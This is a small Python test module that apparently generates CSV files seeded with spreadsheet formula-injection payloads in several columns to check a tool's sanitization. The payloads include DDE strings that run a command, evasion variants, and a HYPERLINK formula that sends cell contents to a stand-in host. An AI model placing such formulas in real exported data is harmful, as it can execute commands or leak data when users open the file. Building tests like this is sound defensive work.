"""Cells that a spreadsheet would run."""

from __future__ import annotations

from attacks.corpus.attack import HEADER, Place, attack, rows, text_of

__all__ = ["FORMULAS"]

FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "\uff1d1+1",
)


@attack()
def in_categories(place: Place) -> None:
    lines = [[*row[:3], FORMULAS[n % len(FORMULAS)], row[4]] for n, row in enumerate(rows())]
    place.write("parcels.csv", text_of(HEADER, lines))


@attack()
def in_keys(place: Place) -> None:
    lines = [[f"{FORMULAS[n % len(FORMULAS)]}{n}", *row[1:]] for n, row in enumerate(rows())]
    place.write("parcels.csv", text_of(HEADER, lines))


@attack()
def in_classes(place: Place) -> None:
    lines = [[*row[:4], "=1+1" if row[4] == "yes" else "@SUM(A1)"] for row in rows()]
    place.write("parcels.csv", text_of(HEADER, lines))
